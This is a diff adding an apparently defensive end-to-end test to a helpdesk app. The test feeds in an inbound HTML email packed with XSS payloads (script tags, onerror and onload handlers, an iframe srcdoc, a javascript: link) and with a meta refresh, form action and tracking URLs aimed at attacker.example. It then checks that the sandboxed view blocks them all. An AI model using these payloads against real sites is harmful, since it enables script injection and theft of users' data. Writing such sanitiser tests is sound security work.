@@ -121,3 +121,60 @@ def test_hostile_customer_text_runs_no_script(browser: Any, live_server: Any, ca
     assert page.evaluate("window.__pwned === undefined")
     assert dialogs == []
     shot(page, "desk-hostile-text")
+
+
+def test_hostile_html_mail_runs_no_script_and_reaches_no_attacker(
+    browser: Any, live_server: Any, cast: Cast
+) -> None:
+    """IN-6, SEC-2: an HTML mail full of script vectors, shown with its formatting in the
+    sandboxed frame: no dialog, no script, no request to the attacker's host."""
+    from email.message import EmailMessage
+
+    from pomogu.intake.services import receive
+
+    hostile = (
+        '<meta http-equiv="refresh" content="0;url=https://attacker.example/refresh">'
+        "<p>Visible <b>formatted</b> text from the customer.</p>"
+        "<script>window.__pwned = 1; alert('script')</script>"
+        "<img src=x onerror=\"window.__pwned = 2; alert('img')\">"
+        '<img src="https://attacker.example/track.gif">'
+        "<svg onload=\"window.__pwned = 3; alert('svg')\"></svg>"
+        "<iframe srcdoc=\"<script>parent.__pwned = 4; alert('srcdoc')</script>\"></iframe>"
+        "<a href=\"javascript:window.__pwned = 5; alert('link')\">click me</a>"
+        '<form action="https://attacker.example/steal"><input name=q><button>Go</button></form>'
+        '<div style="background:url(https://attacker.example/bg.png)">styled</div>'
+    )
+    message = EmailMessage()
+    message["From"] = "Dave Customer <dave@customer.test>"
+    message["To"] = "support@desk.test"
+    message["Subject"] = "Hostile HTML"
+    message["Message-ID"] = "<hostile-html@customer.test>"
+    message.set_content("Visible formatted text from the customer.")
+    message.add_alternative(hostile, subtype="html")
+    inbound = receive(
+        message.as_bytes(), mailbox=None, recipient="support@desk.test", source="api"
+    ).inbound
+    case = inbound.case
+    assert case is not None
+
+    page = sign_in(browser, live_server, case.owner.username)
+    dialogs: list[str] = []
+    requests: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.on("request", lambda r: requests.append(r.url))
+    page.goto(f"{live_server.url}/cases/{case.number}/")
+    page.click("text=Show the original formatting")
+    frame_element = page.wait_for_selector("iframe[sandbox='']")
+    assert frame_element.get_attribute("sandbox") == ""
+    frame = page.frame_locator("iframe[sandbox='']")
+    frame.locator("text=formatted").wait_for()
+    assert frame.locator("script, svg, iframe, form, meta[http-equiv]").count() == 0
+    page.wait_for_timeout(500)  # give a refresh or a late handler its chance
+    assert page.evaluate("window.__pwned === undefined")
+    inner = frame_element.content_frame()
+    assert inner is not None
+    assert inner.evaluate("window.__pwned === undefined")
+    assert dialogs == []
+    assert not [url for url in requests if "attacker.example" in url], requests
+    assert page.url == f"{live_server.url}/cases/{case.number}/"
+    shot(page, "desk-hostile-html-mail")
